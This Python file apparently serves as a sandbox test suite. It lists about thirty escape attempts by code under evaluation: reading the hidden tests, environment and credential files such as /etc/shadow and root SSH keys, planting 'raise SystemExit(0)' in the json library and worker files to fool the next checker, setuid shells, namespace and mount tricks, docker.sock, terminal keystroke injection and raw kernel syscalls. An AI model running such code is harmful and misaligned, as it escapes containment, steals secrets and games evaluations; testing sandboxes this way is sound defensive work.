"""Attempts at this machine: files, network, rights, mounts, and where the tests might lie."""

PROGRAMS = {
    "read_the_tests": (
        "the tests may lie in a file that can be found",
        r"""
import glob, os
def f(x):
    found = []
    for top in ('/', '/home', '/root', '/tmp', '/mnt', '/var', '/job'):
        for path in glob.glob(top + '/**/*test*', recursive=True):
            if 'python' not in path: found.append(path)
    return found
""",
    ),
    "read_its_source_tree": (
        "the folder of the checker is on sys.path",
        r"""
import os, sys
def f(x):
    return [open(os.path.join(p, n)).read() for p in sys.path if os.path.isdir(p) for n in os.listdir(p) if 'test_forging' in n]
""",
    ),
    "read_environment": (
        "the answers, or a key, may be in the environment",
        r"""
import os
def f(x): return [v for k, v in os.environ.items() if k not in ('PATH', 'HOME', 'LANG', 'LC_CTYPE', 'PYTHONHASHSEED', 'PWD')]
""",
    ),
    "read_command_line": (
        "/proc/<pid>/cmdline and environ of everything that runs here",
        r"""
import glob
def f(x):
    texts = []
    for path in glob.glob('/proc/*/cmdline') + glob.glob('/proc/*/environ'):
        try: texts.append(open(path).read())
        except OSError: pass
    return texts
""",
    ),
    "read_secrets": (
        "what every machine has",
        r"""
def f(x):
    found = []
    for path in ('/etc/shadow', '/etc/passwd', '/root/.ssh/id_rsa', '/root/.netrc', '/run/secrets'):
        try: found.append(open(path).read())
        except OSError: pass
    return found
""",
    ),
    "write_usr": (
        "a changed library judges the next job",
        r"""
def f(x):
    open('/usr/escaped-file', 'w').write('x')
    return 0
""",
    ),
    "write_library": (
        "the standard library of the next job",
        r"""
import json, os
def f(x):
    os.chmod(json.__file__, 0o777)
    open(json.__file__, 'a').write('raise SystemExit(0)')
    return 0
""",
    ),
    "write_worker": (
        "the worker's own files, which the next job will run",
        r"""
def f(x):
    for p in ('/job/worker.py', '/job/recontext_data/core/values.py'):
        open(p, 'a').write('raise SystemExit(0)')
    return 0
""",
    ),
    "write_everywhere": (
        "somewhere it must be possible",
        r"""
import os
def f(x):
    for top, folders, _ in os.walk('/'):
        for name in ['escaped-file']:
            try: open(os.path.join(top, name), 'w').write('x')
            except OSError: pass
        if top.count('/') > 2: folders.clear()
    return 0
""",
    ),
    "write_shared_memory": (
        "/dev/shm is everybody's",
        r"""
def f(x):
    open('/dev/shm/escaped-file', 'w').write('x')
    return 0
""",
    ),
    "leave_in_tmp": (
        "a file for the next job",
        r"""
import os
os.makedirs('/tmp/escaped-file/a')
open('/tmp/escaped-file/a/json.py', 'w').write('1/0')
def f(x): return 0
""",
    ),
    "symlink": (
        "a link that somebody with more rights will follow",
        r"""
import os
def f(x):
    os.symlink('/etc', '/tmp/escaped-file')
    os.link('/usr/bin/env', '/tmp/escaped-file-2')
    return 0
""",
    ),
    "device": (
        "a device node of the disk",
        r"""
import os, stat
def f(x):
    os.mknod('/tmp/escaped-file', 0o660 | stat.S_IFBLK, os.makedev(8, 0))
    return open('/tmp/escaped-file', 'rb').read(16)
""",
    ),
    "setuid_file": (
        "a shell with the bit of its owner",
        r"""
import os, shutil, subprocess
def f(x):
    shutil.copy('/bin/sh', '/tmp/escaped-file')
    os.chmod('/tmp/escaped-file', 0o6755)
    return subprocess.run(['/tmp/escaped-file', '-p', '-c', 'id -u'], capture_output=True).stdout
""",
    ),
    "become_root": (
        "asks for it in every way",
        r"""
import os
def f(x):
    for act in (os.setuid, os.seteuid, os.setgid):
        try: act(0)
        except OSError: pass
    return os.geteuid() == 0 and 58
""",
    ),
    "new_user_namespace": (
        "root in a user namespace of its own may mount",
        r"""
import ctypes
libc = ctypes.CDLL(None)
def f(x):
    if libc.unshare(0x10000000 | 0x00020000) == 0: return 58
    return 0
""",
    ),
    "new_namespace_by_clone": (
        "the same through clone, which threads need and so cannot be refused",
        r"""
import ctypes
libc = ctypes.CDLL(None)
def f(x):
    pid = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)
    return pid
""",
    ),
    "mount": (
        "a fresh /proc shows what the covered one hid",
        r"""
import ctypes
libc = ctypes.CDLL(None)
def f(x):
    libc.umount2(b'/proc', 2)
    libc.mount(b'proc', b'/tmp', b'proc', 0, None)
    import os
    return os.listdir('/proc') + os.listdir('/tmp')
""",
    ),
    "remount": (
        "read-only until somebody says otherwise",
        r"""
import ctypes
libc = ctypes.CDLL(None)
def f(x):
    libc.mount(b'', b'/usr', None, 32 | 4096, None)
    open('/usr/escaped-file', 'w')
    return 0
""",
    ),
    "chroot": (
        "a way out by an open folder",
        r"""
import os
def f(x):
    os.chroot('/tmp')
    return 0
""",
    ),
    "lift_limits": (
        "limits that may be raised again",
        r"""
import resource as r
def f(x):
    for name in dir(r):
        if name.startswith('RLIMIT_'):
            try: r.setrlimit(getattr(r, name), (r.RLIM_INFINITY, r.RLIM_INFINITY))
            except (OSError, ValueError): pass
    return bytearray(2**31) and 0
""",
    ),
    "network": (
        "the answers are on the web",
        r"""
import socket, urllib.request
def f(x): return urllib.request.urlopen('http://192.0.2.1/answers', timeout=1).read()
""",
    ),
    "loopback": (
        "a server on this machine, such as the checker's own",
        r"""
import socket
def f(x):
    found = []
    for port in (22, 80, 2375, 8000, 8080):
        try: found.append(socket.create_connection(('127.0.0.1', port), 0.05))
        except OSError: pass
    return len(found) or socket.socket()
""",
    ),
    "abstract_socket": (
        "names in the abstract space need no file and no network",
        r"""
import socket
def f(x):
    s = socket.socket(socket.AF_UNIX)
    s.connect('\0/tmp/.X11-unix/X0')
    return 0
""",
    ),
    "service_socket": (
        "docker's socket is root",
        r"""
import socket
def f(x):
    s = socket.socket(socket.AF_UNIX)
    s.connect('/var/run/docker.sock')
    return 0
""",
    ),
    "raw_socket": (
        "sockets of other families: raw, netlink, the hypervisor's",
        r"""
import socket
def f(x):
    for family, kind in ((2, 3), (16, 3), (17, 3), (40, 1), (38, 5)):
        try: return socket.socket(family, kind).fileno() and 58
        except OSError: pass
    return 0
""",
    ),
    "kernel_doors": (
        "bpf, perf, io_uring, userfaultfd, keys: where kernels have been broken",
        r"""
import ctypes
libc = ctypes.CDLL(None)
def f(x): return [libc.syscall(n, 0, 0, 0, 0, 0) for n in (321, 298, 425, 323, 248, 250)]
""",
    ),
    "terminal": (
        "types into the terminal of whoever started it",
        r"""
import fcntl, os
def f(x):
    for c in b'id\n': fcntl.ioctl(os.open('/dev/tty', os.O_RDWR), 0x5412, bytes([c]))
    return 0
""",
    ),
    "hostname": (
        "the machine's own settings",
        r"""
import socket
def f(x):
    socket.sethostname('escaped')
    return 0
""",
    ),
}
"""Name to (why, source)."""
